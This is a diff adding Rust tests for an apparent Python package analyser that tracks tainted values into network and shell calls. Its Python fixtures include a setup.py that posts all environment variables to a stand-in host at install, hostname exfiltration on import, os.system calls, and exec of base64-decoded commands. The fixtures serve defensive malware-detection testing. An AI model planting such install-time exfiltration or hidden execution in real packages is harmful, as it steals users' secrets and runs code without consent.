@@ -1,0 +1,93 @@
+//! Values that go from one place to another before they are used.
+#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]
+
+use fondaco_python::{Analysis, Budget, Call, Form, Role, SourceFile, Taint, analyse};
+use fondaco_verdict::Trigger;
+
+fn package(files: &[(&str, &str, &str, Role)]) -> Analysis {
+    let paths: Vec<_> = files.iter().map(|(path, ..)| path.parse().unwrap()).collect();
+    let sources: Vec<_> = files
+        .iter()
+        .zip(&paths)
+        .map(|((_, module, text, role), path)| SourceFile {
+            path,
+            bytes: text.as_bytes(),
+            form: Form::Source,
+            role: *role,
+            module,
+        })
+        .collect();
+    analyse(&sources, &[], &Budget::default())
+}
+
+fn setup(text: &str) -> Analysis {
+    package(&[("setup.py", "setup", text, Role::Setup)])
+}
+
+#[track_caller]
+fn call<'a>(analysis: &'a Analysis, callee: &str) -> &'a Call {
+    let mut calls = analysis.units.iter().flat_map(|unit| &unit.calls);
+    calls.find(|call| call.callee == callee).unwrap_or_else(|| panic!("no {callee} in {analysis:#?}"))
+}
+
+#[test]
+fn methods_and_attributes() {
+    let found = setup(
+        "import os, requests\nclass A:\n    host = 'http://x.example.invalid/'\n    def take(self):\n        return os.environ\n    def run(self):\n        requests.post(self.host, data=self.take())\nA().run()\n",
+    );
+    let post = call(&found, "requests.post");
+    assert!(post.taint().has(Taint::ALL_VARIABLES));
+    assert_eq!(post.texts(), ["http://x.example.invalid/"]);
+    assert_eq!(post.trigger, Some(Trigger::Install));
+}
+
+#[test]
+fn results_and_arguments_across_modules() {
+    let found = package(&[
+        (
+            "pkg/__init__.py",
+            "pkg",
+            "from .b import facts\nfrom .c import send\nsend(facts())\n",
+            Role::Module,
+        ),
+        ("pkg/b.py", "pkg.b", "import socket\ndef facts():\n    return socket.gethostname()\n", Role::Module),
+        (
+            "pkg/c.py",
+            "pkg.c",
+            "import requests\ndef send(x):\n    requests.post('http://x.example.invalid', data=x)\n",
+            Role::Module,
+        ),
+    ]);
+    let post = call(&found, "requests.post");
+    assert!(post.taint().has(Taint::HOST));
+    assert_eq!(post.trigger, Some(Trigger::Import));
+    assert_eq!(post.reach, ["pkg/__init__.py:3"]);
+}
+
+#[test]
+fn threads_temporary_files_and_branches() {
+    let found = setup("import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n");
+    assert_eq!(call(&found, "os.system").texts(), ["id"]);
+    let found = setup(
+        "import os, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'import os\\nos.remove(\"a\")\\nprint(\"hello, hello\")\\n')\nos.system(f'start {f.name}')\n",
+    );
+    assert!(call(&found, "os.system").taint().has(Taint::WRITTEN));
+    let found = setup(
+        "import os, socket\nx = socket.gethostname()\nif os.name:\n    x = 'a'\nos.system('curl ' + x)\n",
+    );
+    assert!(call(&found, "os.system").taint().has(Taint::HOST));
+}
+
+#[test]
+fn what_stands_under_main_runs_as_a_program() {
+    let text = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
+    let found = package(&[("pkg/a.py", "pkg.a", text, Role::Module)]);
+    assert_eq!(call(&found, "os.system").trigger, Some(Trigger::EntryPoint));
+    assert_eq!(call(&setup(text), "os.system").trigger, Some(Trigger::Install));
+}
+
+#[test]
+fn python_2_is_followed() {
+    let found = setup("import os, base64\nprint 'x'\nname = base64.b64decode('aWQgLXU=')\nexec name\n");
+    assert!(call(&found, "builtins.exec").taint().has(Taint::DECODED));
+}
